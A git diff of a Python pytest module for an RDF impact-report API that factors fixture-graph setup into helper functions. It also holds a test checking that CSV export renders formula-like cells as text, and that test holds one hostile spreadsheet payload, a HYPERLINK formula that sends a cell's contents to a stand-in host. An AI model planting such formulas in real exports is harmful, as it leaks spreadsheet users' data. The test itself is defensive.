@@ -54,16 +54,26 @@ def one(report: ImpactReport, local: str):  # type: ignore[no-untyped-def]
 # ------------------------------------------------------------------------------------------------ fixture graph
 
 
-@pytest.fixture(scope="module")
-def fixture_store() -> EmbeddedStore:
-    """The hand-built graph with the real impact rules and legal classes (what a what-if may change), in memory."""
+def fixture_dataset() -> Dataset:
+    """The hand-built graph with the real impact rules and legal classes (what a what-if may change)."""
     dataset = Dataset()
     dataset.graph(URIRef("https://w3id.org/vnqi/graph/test/impact")).parse(ROOT / "tests/fixtures/impact.ttl")
     dataset.graph(URIRef("https://w3id.org/vnqi/graph/ontology/impact")).parse(ROOT / "ontology/impact.ttl")
     dataset.graph(URIRef("https://w3id.org/vnqi/graph/ontology/legal")).parse(ROOT / "ontology/legal.ttl")
+    return dataset
+
+
+def in_memory(dataset: Dataset) -> EmbeddedStore:
+    """An in-memory store holding `dataset`."""
     store = EmbeddedStore(None)
     store.replace(dataset)
     return store
+
+
+@pytest.fixture(scope="module")
+def fixture_store() -> EmbeddedStore:
+    """fixture_dataset in memory."""
+    return in_memory(fixture_dataset())
 
 
 def article_1(store: EmbeddedStore, depth: int = 4) -> ImpactReport:
@@ -362,15 +372,11 @@ def test_csv_cells_that_look_like_formulas_are_written_as_text() -> None:
 
     from api.impact_view import as_json, csv_text
 
-    dataset = Dataset()
-    dataset.graph(URIRef("https://w3id.org/vnqi/graph/test/impact")).parse(ROOT / "tests/fixtures/impact.ttl")
-    dataset.graph(URIRef("https://w3id.org/vnqi/graph/ontology/impact")).parse(ROOT / "ontology/impact.ttl")
-    dataset.graph(URIRef("https://w3id.org/vnqi/graph/ontology/legal")).parse(ROOT / "ontology/legal.ttl")
+    dataset = fixture_dataset()
     hostile = '=HYPERLINK("http://x.example/?"&A2,"Xem")'
     dataset.graph(URIRef("https://w3id.org/vnqi/graph/test/hostile")).add(
         (URIRef(ID + "doc/t-d1"), URIRef("http://www.w3.org/2000/01/rdf-schema#label"), Literal(hostile, lang="en")))
-    store = EmbeddedStore(None)
-    store.replace(dataset)
+    store = in_memory(dataset)
     report = article_1(store)
     graph = dependency_graph(store)
     rows = list(csv.reader(io.StringIO(csv_text(graph, report, "en"))))
